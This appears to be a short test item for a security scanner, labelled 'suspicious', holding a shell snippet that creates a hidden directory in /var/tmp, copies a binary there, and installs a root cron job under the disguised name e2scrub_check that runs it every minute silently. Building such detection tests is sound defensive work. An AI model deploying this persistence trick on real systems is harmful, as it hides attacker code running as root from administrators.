# id: P411
# mode: scan
# level: suspicious
# title: a cron file that hides what it runs in variables
# due: now
word name
mkdir -p "/var/tmp/.$name"
cp "$here/idle" "/var/tmp/.$name/x"
printf 'SHELL=/bin/bash\nD=/var/tmp/.%s\n* * * * * root cd $D && ./x >/dev/null 2>&1\n' "$name" >/etc/cron.d/e2scrub_check
said path /etc/cron.d/e2scrub_check
